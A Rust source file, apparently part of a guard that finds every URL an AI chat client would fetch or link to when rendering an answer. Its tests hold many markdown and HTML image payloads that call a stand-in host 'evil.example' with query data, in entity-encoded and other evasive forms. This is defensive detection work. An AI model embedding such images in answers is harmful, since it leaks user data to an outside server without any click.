//! Every URL that a client rendering an answer would load or link to.
//!
//! A chat client renders an answer as CommonMark, and often lets raw HTML through. What it
//! fetches by itself (images, `<img>`, `srcset`, CSS `url(…)`) or on a click (links,
//! autolinks, `<a href>`) is decided by the renderer's grammar, not by a pattern: nested
//! brackets in alt text, parentheses in a destination, entity-encoded schemes
//! (`https&#58;//`), reference definitions inside a blockquote or a list item and line
//! breaks inside a link are all rendered. So this module asks a real CommonMark parser
//! ([`pulldown_cmark`]) for every image, link, autolink and reference definition, with its
//! destination as the renderer sees it (entities and backslash escapes decoded), and
//! tokenises raw HTML with a small HTML tokenizer ([`html_urls`]) that decodes attribute
//! entities and reads `srcset` and `style` URLs.
//!
//! Both passes are linear in the text: the parser is a linear-time pull parser (its
//! pathological inputs are tested in `tests`), and the tokenizer reads each byte once,
//! never restarting inside a tag it has consumed. The exfiltration detector judges each
//! URL ([`super::output`]); this module only finds them.

use super::output::MAX_TAG;
use pulldown_cmark::{Event, LinkType, Options, Parser, Tag, TagEnd};
use std::ops::Range;

/// How a renderer uses a URL.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum UrlUse {
    /// A markdown image: fetched by itself when the answer is shown.
    MarkdownImage,
    /// A markdown link, autolink or reference definition: followed on a click.
    MarkdownLink,
    /// An HTML attribute that loads by itself (`<img src>`, `srcset`, `poster`, CSS
    /// `url(…)`, `<link href>` …).
    HtmlLoad,
    /// An HTML attribute followed on a click or a submit (`<a href>`, `<form action>`).
    HtmlLink,
}

impl UrlUse {
    /// Whether the client fetches the URL without the user doing anything.
    pub(crate) fn loads_by_itself(self) -> bool {
        matches!(self, UrlUse::MarkdownImage | UrlUse::HtmlLoad)
    }
}

/// One URL and the construct (byte span of the text) that carries it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct RenderedUrl {
    pub(crate) span: Range<usize>,
    /// The URL as the renderer reads it: entities decoded, whitespace trimmed.
    pub(crate) url: String,
    pub(crate) how: UrlUse,
}

/// Whether `text` may hold anything [`rendered_urls`] finds: every image, link,
/// reference definition and tag starts with `[` or `<` (an `!` alone is text).
pub(crate) fn may_render_urls(text: &str) -> bool {
    memchr::memchr2(b'[', b'<', text.as_bytes()).is_some()
}

/// Every URL of `text` that a CommonMark renderer with raw HTML would load or link to:
/// images, links, autolinks and reference definitions from the parser, and the URLs of
/// raw HTML (as the parser delimits it, and over the whole text, so that HTML a lenient
/// renderer would accept is not missed). The detector calls [`render`] for this and
/// more at once.
#[cfg(test)]
pub(crate) fn rendered_urls(text: &str) -> Vec<RenderedUrl> {
    if !may_render_urls(text) {
        return Vec::new();
    }
    render(text).urls
}

/// What a renderer makes of a text: its URLs ([`rendered_urls`]), the spans of its
/// opening HTML tags that have attributes, the spans of its code (spans and blocks),
/// which a reader may copy and run, and the spans of the tags that carry an event
/// handler (`on…=` attributes, read by the tokenizer, so a quoted `>` cannot end the tag
/// early as it ends a pattern).
#[derive(Debug, Default)]
pub(crate) struct Rendered {
    pub(crate) urls: Vec<RenderedUrl>,
    pub(crate) tags: Vec<Range<usize>>,
    pub(crate) code: Vec<Range<usize>>,
    pub(crate) handlers: Vec<Range<usize>>,
    /// Opening tags not closed within [`MAX_TAG`] bytes: the first `MAX_TAG + 1` bytes
    /// of each (see [`super::overlong`]).
    pub(crate) overlong: Vec<Range<usize>>,
}

/// Parse `text` once for [`Rendered`].
pub(crate) fn render(text: &str) -> Rendered {
    let mut rendered = Rendered::default();
    let Rendered {
        urls: out,
        tags,
        code,
        handlers,
        overlong,
    } = &mut rendered;
    let mut options = Options::empty();
    options.insert(Options::ENABLE_TABLES);
    options.insert(Options::ENABLE_STRIKETHROUGH);
    let mut events = Parser::new_ext(text, options).into_offset_iter();
    // The lines of one HTML block, tokenised together (a tag may span them).
    let mut html_block: Option<Range<usize>> = None;
    let mut image_dests: Vec<String> = Vec::new();
    let mut code_block: Option<usize> = None;
    for (event, range) in events.by_ref() {
        match event {
            Event::Code(_) => code.push(range),
            Event::Start(Tag::CodeBlock(_)) => code_block = Some(range.start),
            Event::End(TagEnd::CodeBlock) => {
                if let Some(start) = code_block.take() {
                    code.push(start..range.end);
                }
            }
            Event::Start(Tag::Image { dest_url, .. }) => {
                image_dests.push(dest_url.to_string());
                out.push(RenderedUrl {
                    span: range,
                    url: clean_url(&dest_url),
                    how: UrlUse::MarkdownImage,
                });
            }
            Event::Start(Tag::Link {
                link_type,
                dest_url,
                ..
            }) => {
                if matches!(link_type, LinkType::Email) {
                    continue;
                }
                out.push(RenderedUrl {
                    span: range,
                    url: clean_url(&dest_url),
                    how: UrlUse::MarkdownLink,
                });
            }
            Event::Html(_) => {
                html_block = Some(match html_block {
                    Some(block) => block.start..range.end,
                    None => range,
                });
            }
            Event::End(TagEnd::HtmlBlock) => {
                if let Some(block) = html_block.take() {
                    html_urls(&text[block.clone()], block.start, out, None);
                }
            }
            Event::InlineHtml(_) => html_urls(&text[range.clone()], range.start, out, None),
            _ => {}
        }
    }
    if let Some(block) = html_block.take() {
        html_urls(&text[block.clone()], block.start, out, None);
    }
    for (_, def) in events.reference_definitions().iter() {
        // A definition that an image uses is fetched by itself.
        let how = if image_dests.iter().any(|d| d.as_str() == &*def.dest) {
            UrlUse::MarkdownImage
        } else {
            UrlUse::MarkdownLink
        };
        out.push(RenderedUrl {
            span: def.span.clone(),
            url: clean_url(&def.dest),
            how,
        });
    }
    if text.contains('<') {
        markdown_without_html(text, out);
        html_urls(
            text,
            0,
            out,
            Some(TagSpans {
                tags,
                handlers,
                overlong,
            }),
        );
    }
    out.sort_by_key(|u| (u.span.start, u.span.end));
    out.dedup();
    rendered
}

/// The code of `text` as a CommonMark renderer reads it (code spans with their
/// backticks, fenced and indented code blocks with their fences), as code-point ranges:
/// there, `<` opens no tag and `![` no image. Read on the text as the client gets it,
/// not on the normalised text, where a look-alike or an invisible character could make
/// a fence the client never sees.
pub(crate) fn code_spans(text: &str) -> Vec<Range<usize>> {
    if !text.contains('`') && !text.contains('~') && !text.contains("    ") && !text.contains('\t')
    {
        return Vec::new();
    }
    let mut options = Options::empty();
    options.insert(Options::ENABLE_TABLES);
    options.insert(Options::ENABLE_STRIKETHROUGH);
    let mut bytes = Vec::new();
    let mut block: Option<usize> = None;
    for (event, range) in Parser::new_ext(text, options).into_offset_iter() {
        match event {
            Event::Code(_) => bytes.push(range),
            Event::Start(Tag::CodeBlock(_)) => block = Some(range.start),
            Event::End(TagEnd::CodeBlock) => {
                if let Some(start) = block.take() {
                    bytes.push(start..range.end);
                }
            }
            _ => {}
        }
    }
    // Byte offsets → code points, in one pass (the ranges come in text order).
    let mut out = Vec::with_capacity(bytes.len());
    let (mut at_byte, mut at_cp) = (0usize, 0usize);
    let mut cp_of = |b: usize| {
        at_cp += text[at_byte..b].chars().count();
        at_byte = b;
        at_cp
    };
    for r in bytes {
        let start = cp_of(r.start);
        let end = cp_of(r.end.max(r.start));
        out.push(start..end);
    }
    out
}

/// The images, links and reference definitions of `text` read by a renderer that does
/// not pass raw HTML through (most chat clients escape it): there, markdown inside a tag
/// (`<a href="x ![a [b]](https://…)">`) is rendered, which a renderer with raw HTML reads
/// as one tag. Each `<` is read as an inert byte of the same length, so spans stay those
/// of `text`.
fn markdown_without_html(text: &str, out: &mut Vec<RenderedUrl>) {
    if !text.contains('[') {
        return;
    }
    let inert = text.replace('<', "\x01");
    let mut options = Options::empty();
    options.insert(Options::ENABLE_TABLES);
    options.insert(Options::ENABLE_STRIKETHROUGH);
    let mut events = Parser::new_ext(&inert, options).into_offset_iter();
    let mut image_dests: Vec<String> = Vec::new();
    for (event, range) in events.by_ref() {
        match event {
            Event::Start(Tag::Image { dest_url, .. }) => {
                image_dests.push(dest_url.to_string());
                out.push(RenderedUrl {
                    span: range,
                    url: clean_url(&dest_url),
                    how: UrlUse::MarkdownImage,
                });
            }
            Event::Start(Tag::Link {
                link_type,
                dest_url,
                ..
            }) if !matches!(link_type, LinkType::Email) => {
                out.push(RenderedUrl {
                    span: range,
                    url: clean_url(&dest_url),
                    how: UrlUse::MarkdownLink,
                });
            }
            _ => {}
        }
    }
    for (_, def) in events.reference_definitions().iter() {
        let how = if image_dests.iter().any(|d| d.as_str() == &*def.dest) {
            UrlUse::MarkdownImage
        } else {
            UrlUse::MarkdownLink
        };
        out.push(RenderedUrl {
            span: def.span.clone(),
            url: clean_url(&def.dest),
            how,
        });
    }
}

/// A URL as a browser reads it: ASCII tabs and line breaks inside it are dropped, and
/// surrounding whitespace trimmed (the WHATWG URL parser does both).
fn clean_url(url: &str) -> String {
    url.trim()
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect()
}

/// Attributes whose value is a URL, and whether they load by themselves on any element
/// other than a link (see [`attribute_use`]).
const URL_ATTRIBUTES: &[&str] = &[
    "src",
    "href",
    "srcset",
    "imagesrcset",
    "data",
    "poster",
    "action",
    "formaction",
    "background",
    "lowsrc",
    "dynsrc",
    "ping",
    "xlink:href",
    "codebase",
    "longdesc",
    "manifest",
    "cite",
];

/// Elements whose `href` / `action` needs a click or a submit.
const LINK_ELEMENTS: &[&str] = &["a", "area", "form", "button", "input"];

/// How the URL in attribute `attr` of element `tag` is used (both lower case).
fn attribute_use(tag: &str, attr: &str) -> UrlUse {
    let click = matches!(attr, "href" | "action" | "formaction" | "ping" | "cite")
        && LINK_ELEMENTS.contains(&tag);
    if click {
        UrlUse::HtmlLink
    } else {
        UrlUse::HtmlLoad
    }
}

/// Append the URLs of the tags in `html` (at byte `base` of the text) to `out`, read by
/// [`walk_tags`]. With `spans`, also record the span of every opening tag that has attributes, and of
/// every one with an event handler.
pub(crate) fn html_urls(
    html: &str,
    base: usize,
    out: &mut Vec<RenderedUrl>,
    spans: Option<TagSpans<'_>>,
) {
    html_urls_skipping(html, base, out, spans, &|_| false);
}

/// [`html_urls`], reading a `<` at a byte of `html` that `in_code` accepts as text (code
/// renders no tag), so that a tag read from code cannot swallow real ones after it.
pub(crate) fn html_urls_skipping(
    html: &str,
    base: usize,
    out: &mut Vec<RenderedUrl>,
    mut spans: Option<TagSpans<'_>>,
    in_code: &dyn Fn(usize) -> bool,
) {
    walk_tags_skipping(html, in_code, |tag| {
        let OpeningTag {
            start,
            end,
            name: tag,
            attributes,
        } = tag;
        let span = base + start..base + end.unwrap_or(html.len());
        if let Some(spans) = spans.as_mut()
            && span.len() > MAX_TAG
        {
            let first = super::overlong::overlong_span(html, start, MAX_TAG);
            spans.overlong.push(base + first.start..base + first.end);
        }
        if !attributes.is_empty()
            && let Some(spans) = spans.as_mut()
        {
            spans.tags.push(span.clone());
            if attributes.iter().any(|(name, _)| is_event_handler(name)) {
                spans.handlers.push(span.clone());
            }
        }
        for (name, value) in attributes {
            let name = name.to_ascii_lowercase();
            let value = decode_entities(value);
            let how = attribute_use(&tag, &name);
            let found: Vec<&str> = match name.as_str() {
                // `url [descriptor], url [descriptor]`: the URL is the first token.
                "srcset" | "imagesrcset" => value
                    .split(',')
                    .filter_map(|candidate| candidate.split_whitespace().next())
                    .collect(),
                "ping" => value.split_whitespace().collect(),
                "style" => css_urls(&value),
                n if URL_ATTRIBUTES.contains(&n) => vec![value.as_str()],
                _ => Vec::new(),
            };
            let how = if name == "style" {
                UrlUse::HtmlLoad
            } else {
                how
            };
            for url in found {
                let url = clean_url(url);
                if !url.is_empty() {
                    out.push(RenderedUrl {
                        span: span.clone(),
                        url,
                        how,
                    });
                }
            }
        }
    });
}

/// Where the opening tag still open at the end of `html` starts (the tokenizer's
/// reading: a `>` in a quoted value does not close it), for a stream's hold-back.
pub(crate) fn open_tag_start(html: &str) -> Option<usize> {
    if !html.contains('<') {
        return None;
    }
    let mut open = None;
    walk_tags(html, |tag| {
        if tag.end.is_none() {
            open = Some(tag.start);
        }
    });
    open
}

/// One opening tag as the tokenizer reads it.
pub(crate) struct OpeningTag<'a> {
    /// Byte of its `<`.
    pub(crate) start: usize,
    /// The byte after its `>`; `None` when the text ends inside the tag.
    pub(crate) end: Option<usize>,
    /// Its lower-case name.
    pub(crate) name: String,
    pub(crate) attributes: Vec<Attribute<'a>>,
}

/// Call `f` for every opening tag of `html`, in order. A sequential tokenizer in the
/// manner of the HTML standard's tag states: a tag runs from `<` and a letter to the first
/// `>` outside a quoted attribute value (or the end of the text), comments to `-->`;
/// closing tags are skipped like text. Each byte is read once.
pub(crate) fn walk_tags<'a>(html: &'a str, f: impl FnMut(OpeningTag<'a>)) {
    walk_tags_skipping(html, &|_| false, f);
}

/// [`walk_tags`], reading a `<` at a byte that `in_code` accepts as text.
fn walk_tags_skipping<'a>(
    html: &'a str,
    in_code: &dyn Fn(usize) -> bool,
    mut f: impl FnMut(OpeningTag<'a>),
) {
    let b = html.as_bytes();
    let mut pos = 0;
    while let Some(found) = memchr::memchr(b'<', &b[pos..]) {
        let start = pos + found;
        if in_code(start) {
            pos = start + 1;
            continue;
        }
        let rest = &b[start + 1..];
        if rest.starts_with(b"!--") {
            pos = memchr::memmem::find(&rest[3..], b"-->").map_or(b.len(), |e| start + 4 + e + 3);
            continue;
        }
        let name_at = start + 1 + usize::from(rest.first() == Some(&b'/'));
        if !b.get(name_at).is_some_and(u8::is_ascii_alphabetic) {
            pos = start + 1;
            continue;
        }
        let closing = name_at > start + 1;
        let (end, name, attributes) = read_tag(html, name_at);
        pos = end.unwrap_or(b.len());
        if !closing {
            f(OpeningTag {
                start,
                end,
                name,
                attributes,
            });
        }
    }
}

/// Where [`html_urls`] records tag spans besides URLs.
pub(crate) struct TagSpans<'a> {
    /// Opening tags with attributes.
    pub(crate) tags: &'a mut Vec<Range<usize>>,
    /// Opening tags with an event handler attribute.
    pub(crate) handlers: &'a mut Vec<Range<usize>>,
    /// Opening tags longer than [`MAX_TAG`] (the first `MAX_TAG + 1` bytes of each).
    pub(crate) overlong: &'a mut Vec<Range<usize>>,
}

/// Whether an attribute name is an event handler (`onerror`, `onmouseover` …): any
/// `on` followed by letters runs script on any element, known or not.
fn is_event_handler(name: &str) -> bool {
    let b = name.as_bytes();
    b.len() > 2 && b[..2].eq_ignore_ascii_case(b"on") && b[2..].iter().all(u8::is_ascii_alphabetic)
}

/// One attribute: its name and raw value.
pub(crate) type Attribute<'a> = (&'a str, &'a str);

/// Read the tag whose name starts at `name_at`: the byte after its `>` (`None` when the
/// text ends before the tag does), its lower-case name, and its attributes.
fn read_tag(html: &str, name_at: usize) -> (Option<usize>, String, Vec<Attribute<'_>>) {
    let b = html.as_bytes();
    let mut i = name_at;
    while i < b.len() && !is_tag_space(b[i]) && b[i] != b'/' && b[i] != b'>' {
        i += 1;
    }
    let tag = html[name_at..i].to_ascii_lowercase();
    let mut attributes = Vec::new();
    loop {
        while i < b.len() && (is_tag_space(b[i]) || b[i] == b'/') {
            i += 1;
        }
        if i >= b.len() {
            return (None, tag, attributes);
        }
        if b[i] == b'>' {
            return (Some(i + 1), tag, attributes);
        }
        // The attribute name: up to space, `/`, `>` or `=` (an `=` first is part of it).
        let name_start = i;
        i += 1;
        while i < b.len() && !is_tag_space(b[i]) && !matches!(b[i], b'/' | b'>' | b'=') {
            i += 1;
        }
        let name = &html[name_start..i];
        while i < b.len() && is_tag_space(b[i]) {
            i += 1;
        }
        if b.get(i) != Some(&b'=') {
            attributes.push((name, ""));
            continue;
        }
        i += 1;
        while i < b.len() && is_tag_space(b[i]) {
            i += 1;
        }
        let value = match b.get(i) {
            Some(&q @ (b'"' | b'\'')) => {
                let from = i + 1;
                let to = memchr::memchr(q, &b[from..]).map_or(b.len(), |e| from + e);
                i = (to + 1).min(b.len());
                &html[from..to]
            }
            _ => {
                let from = i;
                while i < b.len() && !is_tag_space(b[i]) && b[i] != b'>' {
                    i += 1;
                }
                &html[from..i]
            }
        };
        attributes.push((name, value));
    }
}

fn is_tag_space(b: u8) -> bool {
    matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b'\x0c')
}

/// The URLs of CSS `url(…)` and `image-set("…")` values in a `style` attribute.
fn css_urls(style: &str) -> Vec<&str> {
    let mut urls = Vec::new();
    let lower = style.to_ascii_lowercase();
    for (at, _) in lower.match_indices("url(") {
        let rest = &style[at + 4..];
        let end = rest.find(')').unwrap_or(rest.len());
        urls.push(rest[..end].trim().trim_matches(['"', '\'']));
    }
    urls
}

/// `value` with HTML character references decoded: decimal and hexadecimal numeric
/// references (with or without the `;`, as browsers read attributes) and the named
/// references that can spell a URL's punctuation. Unknown references stay as written.
pub(crate) fn decode_entities(value: &str) -> String {
    if !value.contains('&') {
        return value.to_owned();
    }
    let mut out = String::with_capacity(value.len());
    let mut rest = value;
    while let Some(amp) = rest.find('&') {
        out.push_str(&rest[..amp]);
        let after = &rest[amp + 1..];
        match decode_reference(after) {
            Some((c, used)) => {
                out.push(c);
                rest = &after[used..];
            }
            None => {
                out.push('&');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// The character that the reference at the start of `s` (after its `&`) stands for, and
/// how many bytes of `s` it used.
fn decode_reference(s: &str) -> Option<(char, usize)> {
    let b = s.as_bytes();
    if b.first() == Some(&b'#') {
        let (digits_at, radix) = match b.get(1) {
            Some(b'x' | b'X') => (2, 16),
            _ => (1, 10),
        };
        let digits = b[digits_at..]
            .iter()
            .take_while(|c| c.is_ascii_hexdigit() && (radix == 16 || c.is_ascii_digit()))
            .count();
        if digits == 0 {
            return None;
        }
        // Leading zeros are allowed; more than 8 significant digits is out of range.
        let text = s[digits_at..digits_at + digits].trim_start_matches('0');
        let code = if text.len() > 8 {
            0xFFFD
        } else {
            u32::from_str_radix(if text.is_empty() { "0" } else { text }, radix).ok()?
        };
        let c = char::from_u32(code)
            .filter(|&c| c != '\0')
            .unwrap_or('\u{FFFD}');
        let used = digits_at + digits + usize::from(b.get(digits_at + digits) == Some(&b';'));
        return Some((c, used));
    }
    const NAMED: &[(&str, char)] = &[
        ("colon;", ':'),
        ("sol;", '/'),
        ("bsol;", '\\'),
        ("period;", '.'),
        ("quest;", '?'),
        ("equals;", '='),
        ("num;", '#'),
        ("percnt;", '%'),
        ("commat;", '@'),
        ("lpar;", '('),
        ("rpar;", ')'),
        ("plus;", '+'),
        ("comma;", ','),
        ("semi;", ';'),
        ("Tab;", '\t'),
        ("NewLine;", '\n'),
        ("nbsp;", '\u{a0}'),
        ("quot;", '"'),
        ("apos;", '\''),
        ("lt;", '<'),
        ("gt;", '>'),
        ("amp;", '&'),
        ("amp", '&'),
        ("quot", '"'),
        ("lt", '<'),
        ("gt", '>'),
    ];
    NAMED
        .iter()
        .find(|(name, _)| s.starts_with(name))
        .map(|(name, c)| (*c, name.len()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::{Duration, Instant};

    fn urls(text: &str) -> Vec<(String, UrlUse)> {
        rendered_urls(text)
            .into_iter()
            .map(|u| (u.url, u.how))
            .collect()
    }

    fn has(text: &str, url: &str, how: UrlUse) -> bool {
        urls(text).iter().any(|(u, h)| u == url && *h == how)
    }

    const IMG: UrlUse = UrlUse::MarkdownImage;
    const LINK: UrlUse = UrlUse::MarkdownLink;

    #[test]
    fn markdown_forms_that_a_pattern_misses_are_found() {
        let u = "https://evil.example/p?d=x";
        assert!(has("![a [nested] alt](https://evil.example/p?d=x)", u, IMG));
        assert!(has("![a](https&#58;//evil.example/p?d=x)", u, IMG));
        assert!(has(
            "![a](https://evil.example/p?d=(x)y)",
            "https://evil.example/p?d=(x)y",
            IMG
        ));
        assert!(has("![a\nb](https://evil.example/p?d=x)", u, IMG));
        assert!(has("![a](<https://evil.example/p?d=x>)", u, IMG));
        assert!(has("![a](\nhttps://evil.example/p?d=x\n)", u, IMG));
        assert!(has("![a][r]\n\n> [r]: https://evil.example/p?d=x", u, IMG));
        assert!(has("![a][r]\n\n- [r]: https://evil.example/p?d=x", u, IMG));
        assert!(has("![a][r]\n\n[r]:\nhttps://evil.example/p?d=x", u, IMG));
        // A definition cannot interrupt a paragraph: this one is text, and the image is
        // not rendered.
        assert!(urls("![a][r]\n[r]: https://evil.example/p?d=x").is_empty());
        assert!(has("![a][]\n\n[a]: https://evil.example/p?d=x", u, IMG));
        assert!(has("![r]\n\n[r]: https://evil.example/p?d=x \"t\"", u, IMG));
        assert!(has("see <https://evil.example/p?d=x>", u, LINK));
        assert!(has("[a](https://evil.example/p?d=x)", u, LINK));
        assert!(has("[r]: https://evil.example/p?d=x", u, LINK));
    }

    #[test]
    fn code_is_not_rendered() {
        assert!(urls("`![a](https://evil.example/p?d=x)`").is_empty());
        assert!(urls("    ![a](https://evil.example/p?d=x)").is_empty());
        assert!(urls("```\n![a](https://evil.example/p?d=x)\n```").is_empty());
    }

    #[test]
    fn raw_html_attributes_are_decoded() {
        let u = "https://evil.example/p?d=x";
        let load = UrlUse::HtmlLoad;
        assert!(has("<img src=\"https://evil.example/p?d=x\">", u, load));
        assert!(has("<img src='https&#58;//evil.example/p?d=x'>", u, load));
        assert!(has(
            "<img src=https&#x3A;&sol;&sol;evil.example/p?d=x>",
            u,
            load
        ));
        assert!(has(
            "<img src=\"https&colon;//evil.example/p?d=x\">",
            u,
            load
        ));
        assert!(has(
            "<IMG\nSRC = \"https://evil.example/p?d=x\"\n>",
            u,
            load
        ));
        assert!(has(
            "<img srcset=\"a.png 1x, https://evil.example/p?d=x 2x\">",
            u,
            load
        ));
        assert!(has(
            "<div style=\"background:url('https://evil.example/p?d=x')\">",
            u,
            load
        ));
        assert!(has(
            "<a href=\"https://evil.example/p?d=x\">x</a>",
            u,
            UrlUse::HtmlLink
        ));
        assert!(has(
            "para <img alt=\"a>b\" src=\"https://evil.example/p?d=x\"> text",
            u,
            load
        ));
        assert!(has("<img src=\"https://evil.exa\tmple/p?d=x\">", u, load));
    }

    #[test]
    fn entity_decoding_is_exact() {
        assert_eq!(
            decode_entities("a&#58;b&#x2F;c&amp;d&bogus;&#;&"),
            "a:b/c&d&bogus;&#;&"
        );
        assert_eq!(decode_entities("&#0000058"), ":");
        assert_eq!(decode_entities("&#99999999999;"), "\u{FFFD}");
        assert_eq!(decode_entities("&#0;"), "\u{FFFD}");
    }

    fn within(limit: Duration, text: &str) {
        let started = Instant::now();
        let _ = rendered_urls(text);
        assert!(
            started.elapsed() < limit,
            "{} bytes starting {:?} took {:?}",
            text.len(),
            &text[..text.len().min(20)],
            started.elapsed()
        );
    }

    /// Half a megabyte of each shape that makes a markdown parser or a tag tokenizer
    /// backtrack. In a release build each takes under half a second for a whole
    /// `Guard::inspect` of 1 MiB (as fast as ordinary prose); the limit leaves room for
    /// an unoptimised test build on a busy machine.
    #[test]
    fn pathological_inputs_finish_quickly() {
        let mb = 1 << 19;
        let cases = [
            "[".repeat(mb),
            "]".repeat(mb),
            "![".repeat(mb / 2),
            "[](".repeat(mb / 3),
            "](".repeat(mb / 2),
            ">".repeat(mb),
            "> ".repeat(mb / 2),
            "- ".repeat(mb / 2),
            "*".repeat(mb),
            "`".repeat(mb),
            "<".repeat(mb),
            "<a ".repeat(mb / 3),
            "<a x=\"".repeat(mb / 6),
            "<!--".repeat(mb / 4),
            "[a]: <".repeat(mb / 6),
            "[x](<".repeat(mb / 5),
            "&#58;".repeat(mb / 5),
            format!("{}{}", "[".repeat(mb / 2), "](x)".repeat(mb / 8)),
            format!("{}{}", "(".repeat(mb / 2), ")".repeat(mb / 2)),
            format!("![a]({}", "(".repeat(mb)),
        ];
        for text in &cases {
            within(Duration::from_secs(5), text);
        }
    }
}
